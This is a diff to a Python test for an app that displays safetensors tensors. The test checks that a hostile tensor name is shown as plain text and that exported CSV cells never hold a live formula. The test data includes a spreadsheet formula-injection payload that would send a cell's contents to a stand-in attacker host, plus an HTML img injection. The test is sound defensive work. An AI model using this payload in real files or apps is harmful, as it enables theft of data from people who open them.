@@ -424,14 +424,29 @@ def test_a_file_is_parsed_once_however_often_the_page_reruns(monkeypatch):
     assert calls == {"list": 1, "load": 1}
 
 
-def test_a_hostile_tensor_name_shows_as_written_and_its_csv_never_holds_a_formula():
+def test_a_hostile_tensor_name_shows_as_written_and_its_csv_never_holds_a_formula(monkeypatch):
     import plotly.graph_objects as go
 
+    import ui.display
     from core.viz import describe
 
+    runs = []  # per run of the page, the tables it sent through ui.display.data_table (whose own CSV download is neutralised)
+    table_of = ui.display.data_table
+    monkeypatch.setattr(ui.display, "data_table", lambda data, **kwargs: (runs[-1].append(data), table_of(data, **kwargs))[1])
     name = '=HYPERLINK("http://evil.example/?q="&A1,"Click")<img src=x>$1$'
     table = np.random.default_rng(2).standard_normal((32, 8)).astype(np.float32)
-    at = upload("hostile.safetensors", safetensors.numpy.save({name: table}))
+    at = upload_mode()
+    runs.append([])
+    at.file_uploader(key="checkpoint").upload("hostile.safetensors", safetensors.numpy.save({name: table})).run()
+    (key, labels), *_ = tab_sets(at)
+    shown = 0
+    for label in labels:  # every table the page shows, on any tab, went through data_table
+        runs.append([])
+        at = open_tab(at, label)
+        assert len(at.dataframe) == len(runs[-1]), label
+        shown += len(at.dataframe)
+        assert all(describe.csv_cell(c) == c for frame in at.dataframe for c in [*frame.value.columns, *frame.value.to_numpy().ravel()])
+    assert shown >= 2
     assert_clean(at)
     assert heatmap_titled(at, "=HYPERLINK")["title"] == f"{name}: value of each position's vector"  # the component writes it as text
     assert heatmap_titled(at, "Cosine similarity")["panels"][0]["title"] == name
